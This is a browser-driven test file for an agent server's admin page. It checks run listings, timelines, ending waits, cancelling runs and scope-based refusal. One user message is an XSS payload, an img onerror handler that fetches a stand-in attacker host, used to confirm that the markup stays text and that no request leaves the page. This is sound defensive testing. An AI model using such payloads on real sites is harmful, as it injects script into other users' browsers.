// The operator's page (/admin) in a real headless Chromium: a key with the
// `admin` scope signs in; the page lists the runs in flight with their age
// and step, the one waiting for a person and for how long, a recent error;
// a run's timeline follows its log; the operator ends a wait and cancels a
// run, and each act is listed with who did it. What a user typed (an
// attacker's markup) stays text, and nothing leaves the page. Without an
// operator's credential the page shows the API's refusal.
//
// Needs AGENTWIRE_BIN (the built binary) and /usr/bin/chromium.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { BIN, freePort, startServer, tempDir } from '../js/test/support/helpers.mjs';
import { SHOTS, launch, newChat, say } from './support.mjs';

let browser;
let server;
let port;
let dir;

before(async () => {
  port = await freePort();
  dir = tempDir();
  server = await startServer(dir, port);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.kill('SIGKILL');
});

function key(name, scopes) {
  const made = spawnSync(BIN, ['keys', 'create', '--name', name, '--scopes', scopes], {
    env: { PATH: process.env.PATH, AGENTWIRE_DATABASE_URL: `sqlite://${join(dir, 'data', 'agentwire.db')}` },
    encoding: 'utf8',
  });
  assert.equal(made.status, 0, made.stderr);
  return made.stdout.trim();
}

test('an operator sees every run, wait and error, follows a timeline, ends a wait and cancels a run', async () => {
  // A user's three chats: one waits for an answer (its question an
  // attacker's markup), one streams for a long time, one failed.
  const asker = await newChat(browser, port, 'admin-user');
  await say(asker, 'ask: <img src=x onerror="fetch(\'https://evil.example/\')">Your name?');
  await asker.locator('#log .card').last().waitFor();
  const streamer = await newChat(browser, port, 'admin-user-2');
  await say(streamer, 'slow: 100000');
  await streamer.locator('#log li.agent .msg').last().waitFor();
  const failer = await newChat(browser, port, 'admin-user-3');
  await say(failer, 'fail');
  await failer.locator('#log', { hasText: 'The demo tool failed' }).waitFor();

  // Without an operator's credential: the API's refusal, shown.
  const stranger = await browser.newPage();
  await stranger.goto(`http://127.0.0.1:${port}/admin?access_token=${key('reader', 'read')}`);
  await stranger.locator('#status[data-state="error"]', { hasText: 'admin' }).waitFor();
  await stranger.close();

  const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
  const leaks = [];
  page.on('request', (r) => { if (!r.url().startsWith(`http://127.0.0.1:${port}/`)) leaks.push(r.url()); });
  await page.goto(`http://127.0.0.1:${port}/admin?access_token=${key('ops', 'admin')}`);
  assert.ok(!page.url().includes('access_token'), 'the key leaves the address bar');
  await page.locator('#status[data-state="open"]').waitFor();
  const runs = page.locator('#runs tbody tr');
  await runs.nth(1).waitFor();
  assert.equal(await runs.count(), 2, 'two runs in flight');
  const waiting = page.locator('#runs tbody tr', { has: page.locator('[data-kind="input"]') });
  await waiting.locator('text=input (ask_user) for').waitFor();
  assert.equal(await waiting.locator('td').nth(2).textContent(), 'demo');
  const slow = page.locator('#runs tbody tr', { hasNot: page.locator('[data-kind]') });
  await slow.locator('td.mono', { hasText: 'chat.print' }).waitFor();
  await page.locator('#errors tbody tr', { hasText: 'TOOL_EXECUTION_ERROR' }).waitFor();
  await page.locator('#errors tbody tr', { hasText: 'The demo tool failed, as asked.' }).waitFor();
  await page.locator('#usage-total', { hasText: 'runs' }).waitFor();
  await page.locator('#usage[data-drawn="true"]').waitFor({ timeout: 20000 });
  await page.screenshot({ path: join(SHOTS, 'admin-overview.png') });

  // The streaming run's timeline, followed as it grows.
  await slow.locator('button[data-timeline]').click();
  const prints = page.locator('#timeline li', { hasText: 'fragments streamed' });
  await prints.waitFor();
  const count = async () => Number((await prints.textContent()).match(/(\d+) fragments/)[1]);
  const before = await count();
  await page.waitForFunction((n) => {
    const li = [...document.querySelectorAll('#timeline li')].find((l) => l.textContent.includes('fragments streamed'));
    return li && Number(li.textContent.match(/(\d+) fragments/)[1]) > n;
  }, before);
  // The waiting run's timeline: the attacker's markup is text.
  await waiting.locator('button[data-timeline]').click();
  await page.locator('#timeline li[data-type="chat.input_request"]', { hasText: '<img src=x' }).waitFor();
  assert.equal(await page.locator('#timeline img, #runs img, #errors img').count(), 0);
  await page.screenshot({ path: join(SHOTS, 'admin-timeline.png'), fullPage: true });

  // End the wait: the user's run ends as if no answer came in time.
  await waiting.locator('button[data-wait]').click();
  await page.locator('#acts tbody tr', { hasText: 'end_wait' }).filter({ hasText: 'key:ops' }).waitFor();
  await asker.locator('#log li.run-end', { hasText: 'run timeout' }).waitFor({ timeout: 20000 });
  // Cancel the streaming run: the user sees it stop.
  await runs.first().waitFor();
  assert.equal(await runs.count(), 1);
  await slow.locator('button[data-cancel]').click();
  await page.locator('#acts tbody tr', { hasText: 'cancel' }).filter({ hasText: 'key:ops' }).waitFor();
  await page.locator('#no-runs:not([hidden])').waitFor();
  await streamer.locator('#log li.run-end', { hasText: 'run cancelled' }).waitFor({ timeout: 20000 });
  await page.locator('#timeline li[data-type="chat.input_timeout"]').waitFor();
  await page.screenshot({ path: join(SHOTS, 'admin-acts.png') });
  assert.deepEqual(leaks, []);
});
